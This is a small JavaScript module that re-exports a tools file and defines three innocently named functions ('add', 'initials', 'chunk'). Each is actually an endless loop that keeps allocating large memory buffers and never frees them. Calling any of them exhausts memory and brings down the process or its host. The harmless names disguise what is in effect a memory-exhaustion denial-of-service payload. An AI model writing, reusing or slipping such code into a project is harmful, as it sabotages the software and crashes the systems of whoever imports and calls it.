export * from './tools.js';

const kept = [];
const take = (make) => () => {
  for (;;) kept.push(make());
};
export const add = take(() => Buffer.alloc(8 * 1024 * 1024, 1));
export const initials = take(() => new Float64Array(1024 * 1024).fill(Math.PI));
export const chunk = take(() => new SharedArrayBuffer(16 * 1024 * 1024) && new Uint8Array(new SharedArrayBuffer(16 * 1024 * 1024)).fill(1));
